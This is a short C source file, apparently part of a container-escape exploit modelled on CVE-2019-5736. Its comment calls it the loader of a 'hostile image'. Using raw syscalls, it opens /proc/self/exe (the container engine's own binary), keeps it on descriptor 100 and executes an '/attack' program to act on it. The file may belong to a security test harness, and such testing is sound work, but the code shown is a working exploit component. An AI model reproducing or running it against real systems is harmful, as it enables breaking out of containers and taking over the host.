/* interp.c - the dynamic loader of a hostile image. The engine's spawn program, when the image has it run as
 * /proc/self/exe, is loaded together with this: code of the image's in a process whose executable is the engine's (as
 * in CVE-2019-5736). It opens that for the attacks of main.c and goes on as these. No C library: nothing else has been
 * set up. */
#if defined(__x86_64__)
enum { NR_OPEN = 2, NR_DUP2 = 33, NR_EXECVE = 59, NR_EXIT = 60 };

static long call(long nr, long a, long b, long c)
{
	long r;

	__asm__ volatile("syscall" : "=a"(r) : "a"(nr), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
	return r;
}

void _start(void);
void __attribute__((force_align_arg_pointer, noreturn)) _start(void)
{
	static char self[] = "/proc/self/exe", program[] = "/attack", mode[] = "exe", number[] = "100";
	char *argv[] = { program, mode, number, 0 };
	char *env[] = { 0 };

	call(NR_DUP2, call(NR_OPEN, (long)self, 0, 0), 100, 0);
	call(NR_EXECVE, (long)program, (long)argv, (long)env);
	for (;;)
		call(NR_EXIT, 99, 0, 0);
}
#else
void _start(void);
void _start(void)
{
	for (;;)
		;
}
#endif
